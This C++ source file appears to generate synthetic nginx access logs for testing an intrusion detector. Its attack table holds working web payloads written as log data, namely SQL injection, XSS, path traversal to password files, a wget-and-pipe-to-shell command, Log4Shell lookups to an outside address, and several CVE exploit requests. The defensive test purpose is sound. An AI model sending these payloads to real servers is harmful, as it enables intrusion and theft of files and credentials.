// loggen: a deterministic generator of realistic nginx access logs in the
// `defender` format, for benchmarks and for the detection tests.
//
// Benign traffic: many IPv4 and IPv6 clients with Zipf-like popularity,
// browsing pages and a single-page app's API, static assets, 304s,
// favicon/robots 404s, searches with quotes and SQL-ish words, logins with
// the odd mistyped password, well-behaved crawlers, a server-error incident,
// and shared addresses (carrier-grade and corporate NAT, one IPv6 /64) that
// carry hundreds of users with their own browsers at once. Attack traffic (unless --benign-only): every kind the detectors
// know, each from its own clients, with the ground truth written to --truth
// as TSV: client (or IPv6 /64) <TAB> expected scenario <TAB> first line time.
// With --behaviour, also clients that no rule names but whose behaviour
// stands out (issue 22: a slow brute force against a page answering 200, a
// scraper rotating user agents, referer spam from rotating addresses, one
// exploit request repeated), labelled behaviour:KIND in the truth, and heavy
// benign users labelled benign:heavy-user (who must not be flagged).
//
//   loggen [--lines N] [--seed S] [--benign-only] [--behaviour] [--truth FILE]
//          [--unique-clients] [--rate LINES_PER_S] [--start UNIX_SECONDS] > access.log
#include <algorithm>
#include <cmath>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <string_view>
#include <vector>

#include <fmt/format.h>

namespace {

struct Rng {
  uint64_t s;
  uint64_t Next() {  // splitmix64
    uint64_t z = (s += 0x9e3779b97f4a7c15ull);
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
    return z ^ (z >> 31);
  }
  uint64_t Below(uint64_t n) { return Next() % n; }
  double Unit() { return double(Next() >> 11) / double(1ull << 53); }
  template <typename T>
  const T& Pick(const std::vector<T>& v) { return v[Below(v.size())]; }
  bool Chance(double p) { return Unit() < p; }
};

int64_t kStart = 1711843200;  // 2024-03-31T00:00:00Z unless --start

std::string TimeLocal(double t) {
  static const char* kMonths[] = {"Jan", "Feb", "Mar", "Apr", "May", "Jun",
                                  "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};
  int64_t secs = int64_t(t);
  int64_t days = secs / 86400, rem = secs % 86400;
  int64_t z = days + 719468, era = z / 146097;
  unsigned doe = unsigned(z - era * 146097);
  unsigned yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
  int64_t y = int64_t(yoe) + era * 400;
  unsigned doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
  unsigned mp = (5 * doy + 2) / 153, d = doy - (153 * mp + 2) / 5 + 1;
  unsigned m = mp < 10 ? mp + 3 : mp - 9;
  y += m <= 2;
  return fmt::format("{:02}/{}/{}:{:02}:{:02}:{:02} +0000", d, kMonths[m - 1], y, rem / 3600,
                     rem / 60 % 60, rem % 60);
}

struct Line {
  double t;
  std::string client;
  std::string request;
  int status;
  int64_t bytes;
  std::string referer;
  std::string ua;
};

void Write(std::string& out, const Line& l, Rng& rng) {
  double rt = 0.001 * double(1 + rng.Below(300));
  fmt::format_to(std::back_inserter(out), "{} - - [{}] \"{}\" {} {} \"{}\" \"{}\" {:.3f} ", l.client,
                 TimeLocal(l.t), l.request, l.status, l.bytes, l.referer.empty() ? "-" : l.referer,
                 l.ua.empty() ? "-" : l.ua, rt);
  if (l.status >= 400 || l.request.find("/static/") != std::string::npos) {
    out += "- \"-\"\n";
  } else {
    fmt::format_to(std::back_inserter(out), "{:.3f} \"-\"\n", rt * 0.8);
  }
}

const std::vector<std::string> kBrowsers = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.6312.99 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 Edg/123.0.2420.65",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:124.0) Gecko/20100101 Firefox/124.0",
};
const std::vector<std::string> kCrawlers = {
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; DuckDuckBot-Https/1.1; https://duckduckgo.com/duckduckbot)",
};
const std::vector<std::string> kSlugs = {
    "union-station", "select-the-best-union-for-you", "how-to-drop-a-table-tennis-habit",
    "sleep-better", "script-writing-101", "the-passwd-of-the-ancients", "admin-tips-for-small-teams",
    "exec-summary-q1", "shell-beach-trip", "alert-fatigue", "java-and-jakarta", "config-as-code",
    "backup-strategies", "a-git-tutorial", "env-variables-explained", "php-is-not-dead", "wordpress-vs-hugo",
    "cgi-bin-history", "dotfiles", "etc-and-so-on", "union-select-committee-report"};
const std::vector<std::string> kSearches = {
    "select+union", "%22quoted+phrase%22", "o%27reilly", "drop+table+tennis", "1%3D1+math", "sleep+apnea",
    "shoes", "red+dress", "union+station+hours", "%22select%22+from+menu", "where+is+order+42",
    "c%2B%2B+book", "rock+%26+roll", "50%25+off", "script+fonts", "exec+chair", "passwords+manager",
    "admin+jobs", "env+friendly", "a%2Fb+testing", "mother%27s+day", "caf%C3%A9"};
const std::vector<std::string> kStatic = {
    "/static/css/app.3f2a1b.css", "/static/js/app.9c8d7e.js", "/static/js/vendor.1a2b3c.js",
    "/images/logo.png", "/images/hero.jpg", "/static/fonts/inter.woff2", "/favicon.ico", "/images/p/{}.webp"};

struct Client {
  std::string ip;
  std::string ua;
};

std::string RandomV4(Rng& rng) {
  // Public-looking addresses, avoiding 0/8, 10/8, 127/8, 224+.
  uint32_t a = 1 + uint32_t(rng.Below(222));
  if (a == 10 || a == 127 || a == 100 || a == 172 || a == 192 || a == 169) a = 81;
  return fmt::format("{}.{}.{}.{}", a, rng.Below(256), rng.Below(256), 1 + rng.Below(254));
}

std::string RandomV6Prefix(Rng& rng) {
  return fmt::format("2001:db8:{:x}:{:x}", rng.Below(0xffff) + 1, rng.Below(0xffff) + 1);
}

std::string V6InPrefix(const std::string& prefix, Rng& rng) {
  return fmt::format("{}:{:x}:{:x}:{:x}:{:x}", prefix, rng.Below(0xffff) + 1, rng.Below(0xffff),
                     rng.Below(0xffff), rng.Below(0xffff) + 1);
}

// One benign request from `c`.
Line Benign(Rng& rng, const Client& c, double t, bool incident) {
  Line l{t, c.ip, "", 200, 0, "", c.ua};
  double u = rng.Unit();
  std::string page;
  if (u < 0.30) {
    std::string asset = rng.Pick(kStatic);
    if (asset.find("{}") != std::string::npos) asset = fmt::format(fmt::runtime(asset), rng.Below(5000));
    l.request = fmt::format("GET {} HTTP/2.0", asset);
    l.status = rng.Chance(0.3) ? 304 : 200;
    l.bytes = l.status == 304 ? 0 : int64_t(2000 + rng.Below(200000));
    l.referer = "https://shop.example.com/";
  } else if (u < 0.50) {
    const char* api[] = {"/api/v1/items?limit=20&offset={}", "/api/v1/cart", "/api/v1/user/me",
                         "/api/v1/recommendations?item={}", "/api/v1/items/{}/reviews?page=2"};
    page = fmt::format(fmt::runtime(api[rng.Below(5)]), rng.Below(2000));
    bool post = page == "/api/v1/cart" && rng.Chance(0.3);
    l.request = fmt::format("{} {} HTTP/2.0", post ? "POST" : "GET", page);
    l.status = post ? 201 : 200;
    l.bytes = int64_t(200 + rng.Below(8000));
    l.referer = "https://shop.example.com/app/";
  } else if (u < 0.80) {
    const char* pages[] = {"/", "/blog/{}", "/products/{}", "/category/shoes?page={}", "/about",
                           "/app/", "/app/orders/{}", "/contact"};
    int k = int(rng.Below(8));
    std::string arg = k == 1 ? rng.Pick(kSlugs) : std::to_string(rng.Below(3000));
    page = fmt::format(fmt::runtime(pages[k]), arg);
    l.request = fmt::format("GET {} HTTP/2.0", page);
    l.bytes = int64_t(5000 + rng.Below(60000));
    l.referer = rng.Chance(0.5) ? "https://www.google.com/" : "https://shop.example.com/";
  } else if (u < 0.88) {
    l.request = fmt::format("GET /search?q={}&page={} HTTP/2.0", rng.Pick(kSearches), 1 + rng.Below(3));
    l.bytes = int64_t(3000 + rng.Below(20000));
  } else if (u < 0.93) {
    const char* missing[] = {"/robots.txt", "/apple-touch-icon.png", "/apple-touch-icon-precomposed.png",
                             "/favicon.ico", "/blog/old-post-{}", "/.well-known/assetlinks.json"};
    int k = int(rng.Below(6));
    l.request = fmt::format("GET {} HTTP/1.1", fmt::format(fmt::runtime(missing[k]), rng.Below(50)));
    l.status = 404;
    l.bytes = 153;
  } else if (u < 0.96) {
    l.request = "POST /login HTTP/2.0";
    l.status = rng.Chance(0.15) ? 401 : 200;  // a mistyped password now and then
    l.bytes = 512;
  } else if (u < 0.98) {
    l.request = "POST /api/v1/passwords/reset HTTP/2.0";
    l.bytes = 80;
  } else {
    l.request = fmt::format("GET /blog/{}?utm_source=newsletter&utm_medium=email HTTP/1.1", rng.Pick(kSlugs));
    l.bytes = 30000;
  }
  if (incident && l.status == 200 && rng.Chance(0.4)) {
    l.status = rng.Chance(0.5) ? 502 : 503;
    l.bytes = 157;
  }
  return l;
}

struct Attack {
  const char* scenario;
  int clients;      // attacking clients of this kind
  int requests;     // requests per client
  double interval;  // seconds between requests of one client
  bool v6_hopping;  // the client moves through addresses of one /64
  std::vector<std::string> requests_pool;  // "METHOD TARGET PROTO|STATUS|UA|REFERER" (UA, REFERER optional)
};

// --behaviour: what the rules are not written for (issue 22's workloads).
const std::vector<Attack>& BehaviourAttacks() {
  static const std::vector<Attack> kAttacks = {
      {"behaviour:slow-bf-200", 2, 600, 20.0, false, {"POST /admin/index.php HTTP/1.1|200"}},
      {"behaviour:ua-rotating-scraper", 2, 800, 2.0, false,
       {"GET /products/{n} HTTP/1.1|200|{ua}", "GET /blog/{w}-{n} HTTP/1.1|200|{ua}"}},
      {"behaviour:referer-spam", 10, 6, 30.0, false, {"GET / HTTP/1.1|200||http://best-seo-{w}.example/"}},
      {"behaviour:repeated-exploit", 2, 500, 10.0, false, {"POST /boaform/admin/formLogin HTTP/1.1|404"}},
      {"benign:heavy-user", 2, 3000, 1.5, false,
       {"GET /products/{n} HTTP/1.1|200", "GET /api/v1/cart HTTP/1.1|200", "GET /static/app.{n}.js HTTP/1.1|200",
        "GET /account/orders HTTP/1.1|200", "POST /api/v1/cart/items HTTP/1.1|201"}},
  };
  return kAttacks;
}

const std::vector<Attack>& Attacks() {
  static const std::vector<Attack> kAttacks = {
      {"http-probing", 3, 40, 0.5, false,
       {"GET /{w}.php HTTP/1.1|404", "GET /{w}/ HTTP/1.1|404", "GET /old/{w}.html HTTP/1.1|404",
        "GET /{w}/index.jsp HTTP/1.1|404"}},
      {"http-probing", 1, 60, 0.3, true, {"GET /{w}.asp HTTP/1.1|404", "GET /{w}/login HTTP/1.1|404"}},
      {"http-sensitive-files", 3, 12, 0.4, false,
       {"GET /.env HTTP/1.1|404", "GET /.git/config HTTP/1.1|404", "GET /.git/HEAD HTTP/1.1|403",
        "GET /backup.sql HTTP/1.1|404", "GET /wp-config.php.bak HTTP/1.1|404",
        "GET /.aws/credentials HTTP/1.1|404", "GET /id_rsa HTTP/1.1|404", "GET /.htpasswd HTTP/1.1|403",
        "GET /server-status HTTP/1.1|403", "GET /phpinfo.php HTTP/1.1|404", "GET /.DS_Store HTTP/1.1|404",
        "GET /config.php~ HTTP/1.1|404", "GET /site.tar.gz HTTP/1.1|404", "GET /.svn/entries HTTP/1.1|404",
        "GET /api/.env HTTP/1.1|404", "GET /db.sql.old HTTP/1.1|404"}},
      {"http-bad-user-agent", 6, 3, 1.0, false,
       {"GET / HTTP/1.1|200|sqlmap/1.7.2#stable (https://sqlmap.org)",
        "GET / HTTP/1.1|200|Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "GET / HTTP/1.1|200|Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
        "GET / HTTP/1.1|200|masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        "GET / HTTP/1.1|200|Mozilla/5.0 zgrab/0.x",
        "GET / HTTP/1.1|200|Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        "GET / HTTP/1.1|200|WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
        "GET / HTTP/1.1|200|gobuster/3.6", "GET / HTTP/1.1|200|Fuzz Faster U Fool v2.1.0-dev"}},
      {"http-path-traversal-probing", 3, 8, 0.5, false,
       {"GET /static/..%2f..%2f..%2f..%2fetc%2fpasswd HTTP/1.1|400",
        "GET /download?file=../../../../etc/passwd HTTP/1.1|200",
        "GET /img?f=..%252f..%252f..%252fwindows%252fwin.ini HTTP/1.1|404",
        "GET /index.php?page=php://filter/convert.base64-encode/resource=index HTTP/1.1|200",
        "GET /view?file=file:///etc/shadow HTTP/1.1|200", "GET /..\\..\\..\\boot.ini HTTP/1.1|400"}},
      {"http-sqli-probing", 3, 25, 0.2, false,
       {"GET /products?id={n}%27%20OR%20%27{n}%27%3D%27{n} HTTP/1.1|200",
        "GET /products?id={n}+UNION+SELECT+NULL,NULL,NULL-- HTTP/1.1|500",
        "GET /item?id={n}%27%20AND%20SLEEP(5)--%20- HTTP/1.1|200",
        "GET /item?id={n};DROP%20TABLE%20users HTTP/1.1|500",
        "GET /cat?id={n}%20AND%20{n}={n} HTTP/1.1|200",
        "GET /cat?id=(SELECT%20{n}%20FROM%20information_schema.tables) HTTP/1.1|500",
        "GET /news?id=-{n}%27%20union%20all%20select%20concat(username,0x3a,password)%20from%20users--+ HTTP/1.1|200",
        "GET /p?id={n}%20AND%20BENCHMARK(5000000,MD5({n})) HTTP/1.1|200"}},
      {"http-xss-probing", 3, 12, 0.2, false,
       {"GET /search?q=%3Cscript%3Ealert({n})%3C/script%3E HTTP/1.1|200",
        "GET /search?q=%22%3E%3Cimg%20src%3Dx{n}%20onerror%3Dalert(1)%3E HTTP/1.1|200",
        "GET /r?url=javascript:alert(document.cookie)&x={n} HTTP/1.1|200",
        "GET /search?q=%3Csvg/onload%3Dalert({n})%3E HTTP/1.1|200",
        "GET /p?name=%3Ciframe%20src%3Djavascript:alert({n})%3E HTTP/1.1|200"}},
      {"http-rce-probing", 3, 4, 1.0, false,
       {"GET /cgi-bin/test?cmd=;wget%20http://203.0.113.66/x.sh%20-O-%7Csh HTTP/1.1|404",
        "GET /ping?host=127.0.0.1%3B%24(id) HTTP/1.1|200",
        "GET /index?name=%7B%7B7*7%7D%7D HTTP/1.1|200",
        "GET /run?x=%60cat%20/etc/passwd%60 HTTP/1.1|200",
        "GET / HTTP/1.1|200|${jndi:ldap://203.0.113.66:1389/a}"}},
      {"http-backdoors-attempts", 3, 6, 0.5, false,
       {"GET /shell.php HTTP/1.1|404", "GET /c99.php HTTP/1.1|404", "GET /r57.php HTTP/1.1|404",
        "GET /wso.php HTTP/1.1|404", "GET /alfa.php HTTP/1.1|404", "POST /wp-content/plugins/hellopress/wp_filemanager.php HTTP/1.1|404",
        "GET /wp-content/uploads/shell.php HTTP/1.1|404", "GET /b374k.php HTTP/1.1|404"}},
      {"http-admin-interface-probing", 3, 8, 0.5, false,
       {"GET /phpmyadmin/ HTTP/1.1|404", "GET /pma/index.php HTTP/1.1|404", "GET /manager/html HTTP/1.1|404",
        "GET /actuator/env HTTP/1.1|404", "GET /solr/admin/ HTTP/1.1|404", "GET /jenkins/login HTTP/1.1|404",
        "GET /myadmin/ HTTP/1.1|404", "GET /adminer.php HTTP/1.1|404"}},
      {"http-wordpress-scan", 3, 15, 0.5, false,
       {"GET /wp-content/plugins/{w}/readme.txt HTTP/1.1|404", "GET /wp-includes/{w}.php HTTP/1.1|404",
        "GET /wp-admin/{w}.php HTTP/1.1|404", "GET /wp-content/themes/{w}/style.css HTTP/1.1|404"}},
      {"http-bf-wordpress_bf", 3, 20, 1.0, false, {"POST /wp-login.php HTTP/1.1|200"}},
      {"http-wordpress-xmlrpc", 2, 20, 0.5, false, {"POST /xmlrpc.php HTTP/1.1|200"}},
      {"http-wordpress-user-enum", 2, 8, 0.5, false, {"GET /?author={n} HTTP/1.1|301", "GET /wp-json/wp/v2/users HTTP/1.1|200"}},
      {"http-generic-bf", 3, 20, 1.0, false, {"POST /login HTTP/1.1|401", "POST /api/v1/auth/login HTTP/1.1|403"}},
      {"http-generic-bf-slow", 2, 15, 35.0, false, {"POST /login HTTP/1.1|401"}},
      {"http-bf-login-slow", 2, 40, 40.0, false,
       {"POST /administrator/index.php HTTP/1.1|200", "POST /user/login HTTP/1.1|200"}},
      {"http-open-proxy", 2, 4, 1.0, false,
       {"CONNECT www.google.com:443 HTTP/1.1|400", "GET http://www.example.org/ HTTP/1.1|400",
        "CONNECT 203.0.113.5:25 HTTP/1.1|405"}},
      {"http-cve-probing", 3, 1, 1.0, false,
       {"POST /ui/vropspluginui/rest/services/uploadova HTTP/1.1|404",
        "GET /secure/ContactAdministrators!default.jspa HTTP/1.1|404", "POST /_ignition/execute-solution HTTP/1.1|405"}},
      {"http-cve-2021-41773", 1, 1, 1.0, false, {"GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1|400"}},
      {"http-cve-2021-42013", 1, 1, 1.0, false, {"GET /icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd HTTP/1.1|400"}},
      {"f5-big-ip-cve-2020-5902", 1, 1, 1.0, false,
       {"GET /tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd HTTP/1.1|404"}},
      {"fortinet-cve-2018-13379", 1, 1, 1.0, false,
       {"GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession HTTP/1.1|404"}},
      {"pulse-secure-sslvpn-cve-2019-11510", 1, 1, 1.0, false,
       {"GET /dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/ HTTP/1.1|404"}},
      {"CVE-2017-9841", 1, 1, 1.0, false, {"POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1|404"}},
      {"thinkphp-cve-2018-20062", 1, 1, 1.0, false,
       {"GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP HTTP/1.1|404"}},
      {"CVE-2022-46169", 1, 1, 1.0, false,
       {"GET /remote_agent.php?action=polldata&local_data_ids[0]=6&host_id=1&poller_id=1%3Bid HTTP/1.1|404"}},
      {"grafana-cve-2021-43798", 1, 1, 1.0, false,
       {"GET /public/plugins/alertlist/../../../../../../../../etc/passwd HTTP/1.1|400"}},
      {"CVE-2022-26134", 1, 1, 1.0, false,
       {"POST /%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%29%29%7D/ HTTP/1.1|404"}},
      {"spring4shell_cve-2022-22965", 1, 1, 1.0, false,
       {"GET /?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x HTTP/1.1|200"}},
      {"apache_log4j2_cve-2021-44228", 2, 1, 1.0, false,
       {"GET / HTTP/1.1|200|${jndi:ldap://203.0.113.66:1389/Basic/Command/Base64/d2dldA==}"}},
      {"CVE-2024-0012", 1, 1, 1.0, false, {"GET /php/ztp_gate.php/.js.map HTTP/1.1|404"}},
      {"CVE-2023-22515", 1, 1, 1.0, false,
       {"GET /server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false HTTP/1.1|404"}},
      {"CVE-2022-41697", 1, 8, 0.5, false, {"POST /ghost/api/admin/session HTTP/1.1|404"}},
      {"http-technology-probing", 2, 1, 1.0, false,
       {"GET /+CSCOE+/logon.html HTTP/1.1|404", "GET /global-protect/login.esp HTTP/1.1|404",
        "GET /owa/auth/logon.aspx HTTP/1.1|404"}},
      {"http-webdav-probing", 2, 10, 1.0, false, {"PROPFIND / HTTP/1.1|405", "SEARCH /{w} HTTP/1.1|501"}},
      {"http-dos-random-uri", 2, 200, 0.02, false, {"GET /{n}{w} HTTP/1.1|200"}},
      {"http-dos-bypass-cache", 2, 200, 0.02, false, {"GET /products?{n}={w} HTTP/1.1|200"}},
      {"http-flood", 2, 400, 0.02, false, {"GET / HTTP/1.1|200", "GET /products/{n} HTTP/1.1|200"}},
      {"http-dos-switching-ua", 2, 25, 0.3, false, {"GET /products/{n} HTTP/1.1|200|{ua}"}},
      {"http-bad-request", 3, 8, 2.0, false,
       {"\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03|400", "-|400", "GET / HTTP/9.9|400",
        "\\x05\\x01\\x00|400"}},
      {"http-crawl-non_statics", 2, 120, 0.08, false, {"GET /products/{n} HTTP/1.1|200", "GET /blog/{w}-{n} HTTP/1.1|200"}},
  };
  return kAttacks;
}

std::string Fill(std::string s, Rng& rng) {
  static const std::vector<std::string> kWords = {"admin", "test", "backup", "old", "new", "dev", "tmp",
                                                  "data", "api2", "portal", "cms", "web", "site", "app",
                                                  "beta", "stage", "v1", "v2", "private", "secret"};
  for (size_t p; (p = s.find("{w}")) != std::string::npos;) {
    s.replace(p, 3, rng.Pick(kWords) + std::to_string(rng.Below(1000)));
  }
  for (size_t p; (p = s.find("{n}")) != std::string::npos;) s.replace(p, 3, std::to_string(rng.Below(100000)));
  for (size_t p; (p = s.find("{ua}")) != std::string::npos;) {
    s.replace(p, 4, fmt::format("Mozilla/5.0 (Windows NT {}.0; Win64; x64) AppleWebKit/{}.36 Chrome/{}.0",
                                6 + rng.Below(5), 500 + rng.Below(40), 90 + rng.Below(40)));
  }
  return s;
}

}  // namespace

int main(int argc, char** argv) {
  uint64_t lines = 1000000, seed = 42;
  bool benign_only = false, unique_clients = false, behaviour = false;
  double rate = 60;
  const char* truth_path = nullptr;
  for (int i = 1; i < argc; ++i) {
    std::string_view a = argv[i];
    auto next = [&] { return i + 1 < argc ? argv[++i] : (fmt::print(stderr, "{} needs a value\n", a), exit(2), ""); };
    if (a == "--lines") lines = std::strtoull(next(), nullptr, 10);
    else if (a == "--seed") seed = std::strtoull(next(), nullptr, 10);
    else if (a == "--rate") rate = std::strtod(next(), nullptr);
    else if (a == "--truth") truth_path = next();
    else if (a == "--benign-only") benign_only = true;
    else if (a == "--unique-clients") unique_clients = true;
    else if (a == "--behaviour") behaviour = true;
    else if (a == "--start") kStart = std::strtoll(next(), nullptr, 10);
    else {
      fmt::print(stderr, "usage: loggen [--lines N] [--seed S] [--rate R] [--benign-only] [--behaviour] [--truth FILE] "
                         "[--unique-clients] [--start UNIX_SECONDS]\n");
      return 2;
    }
  }
  Rng rng{seed};
  std::string out;
  out.reserve(1 << 22);
  auto flush = [&](bool force) {
    if (out.size() > (1 << 21) || force) {
      fwrite(out.data(), 1, out.size(), stdout);
      out.clear();
    }
  };

  if (unique_clients) {
    // Every line from a different client: the client-table memory test.
    for (uint64_t i = 0; i < lines; ++i) {
      Line l{double(kStart) + double(i) / rate, "", "GET / HTTP/1.1", 200, 1234, "", kBrowsers[i % kBrowsers.size()]};
      if (i % 4 == 3) {
        l.client = fmt::format("2001:db8:{:x}:{:x}::1", (i >> 16) & 0xffff, i & 0xffff);
      } else {
        uint32_t a = uint32_t(0x0b000000u + i * 7u);  // 11.0.0.0 onwards, all distinct
        l.client = fmt::format("{}.{}.{}.{}", a >> 24, (a >> 16) & 255, (a >> 8) & 255, a & 255);
      }
      Write(out, l, rng);
      flush(false);
    }
    flush(true);
    return 0;
  }

  // Benign clients: Zipf-like popularity over a fixed population.
  std::vector<Client> clients;
  for (int i = 0; i < 30000; ++i) {
    bool v6 = i % 4 == 0;
    std::string ip = v6 ? V6InPrefix(RandomV6Prefix(rng), rng) : RandomV4(rng);
    clients.push_back({ip, kBrowsers[rng.Below(kBrowsers.size())]});
  }
  std::vector<Client> crawlers;
  for (int i = 0; i < 12; ++i) crawlers.push_back({RandomV4(rng), kCrawlers[i % kCrawlers.size()]});
  // Shared addresses: 6 % of the benign lines from 4 addresses (3 % from
  // the busiest, about 2 requests/s at the default rate), from 400 users
  // each with their own browser version, a few requests (a page view) at a
  // time.
  struct Nat {
    std::string ip;
    double share;
    uint64_t user = 0;
  };
  Nat nats[] = {{RandomV4(rng), 0.03}, {RandomV4(rng), 0.015}, {RandomV4(rng), 0.01},
                {V6InPrefix(RandomV6Prefix(rng), rng), 0.005}};
  auto nat_user_agent = [](uint64_t user) {
    return fmt::format("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                       "Chrome/{}.0.{}.{} Safari/537.36", 118 + user % 8, 6000 + user % 37, user % 211);
  };

  const double duration = double(lines) / rate;
  std::vector<Line> attack_lines;
  FILE* truth = truth_path ? fopen(truth_path, "w") : nullptr;
  std::vector<Attack> attacks;
  if (!benign_only) attacks = Attacks();
  if (behaviour) attacks.insert(attacks.end(), BehaviourAttacks().begin(), BehaviourAttacks().end());
  {
    for (const Attack& a : attacks) {
      for (int c = 0; c < a.clients; ++c) {
        bool v6 = a.v6_hopping || rng.Chance(0.25);
        std::string prefix = RandomV6Prefix(rng);
        std::string ip = v6 ? V6InPrefix(prefix, rng) : RandomV4(rng);
        double span = a.requests * a.interval;
        double start = double(kStart) + 60 + rng.Unit() * std::max(1.0, duration - span - 120);
        std::string ua = rng.Pick(kBrowsers);
        if (truth) fmt::print(truth, "{}\t{}\t{}\n", a.v6_hopping || v6 ? prefix + "::/64" : ip, a.scenario, int64_t(start));
        for (int k = 0; k < a.requests; ++k) {
          std::string spec = Fill(a.requests_pool[a.requests_pool.size() == 1 ? 0 : (k + c) % a.requests_pool.size()], rng);
          size_t bar = spec.find('|'), bar2 = spec.find('|', bar + 1);
          size_t bar3 = bar2 == std::string::npos ? bar2 : spec.find('|', bar2 + 1);
          std::string spec_ua = bar2 == std::string::npos ? "" : spec.substr(bar2 + 1, bar3 - bar2 - 1);
          Line l{start + k * a.interval * (0.8 + 0.4 * rng.Unit()),
                 a.v6_hopping ? V6InPrefix(prefix, rng) : ip,
                 spec.substr(0, bar), std::atoi(spec.c_str() + bar + 1), int64_t(150 + rng.Below(500)),
                 bar3 == std::string::npos ? "" : spec.substr(bar3 + 1), spec_ua.empty() ? ua : spec_ua};
          attack_lines.push_back(std::move(l));
        }
      }
    }
  }
  if (truth) fclose(truth);
  std::sort(attack_lines.begin(), attack_lines.end(), [](const Line& x, const Line& y) { return x.t < y.t; });

  // A server-error incident in the middle of the log.
  double incident_from = double(kStart) + duration * 0.5, incident_to = incident_from + 120;
  double t = double(kStart);
  size_t next_attack = 0;
  uint64_t written = 0;
  while (written < lines) {
    t += -std::log(1 - rng.Unit()) / rate;
    while (next_attack < attack_lines.size() && attack_lines[next_attack].t <= t && written < lines) {
      Write(out, attack_lines[next_attack++], rng);
      ++written;
    }
    if (written >= lines) break;
    Client nat_user;
    const Client* c = nullptr;
    double u = rng.Unit();
    for (Nat& n : nats) {
      if (c == nullptr && u < n.share) {
        if (rng.Chance(0.15)) n.user = rng.Below(400);
        nat_user = {n.ip, nat_user_agent(n.user)};
        c = &nat_user;
      }
      u -= n.share;
    }
    if (c == nullptr) {
      c = rng.Chance(0.03) ? &crawlers[rng.Below(crawlers.size())]
                           : &clients[size_t(std::pow(rng.Unit(), 2.0) * double(clients.size()))];
    }
    Write(out, Benign(rng, *c, t, t >= incident_from && t < incident_to), rng);
    ++written;
    flush(false);
  }
  flush(true);
  return 0;
}
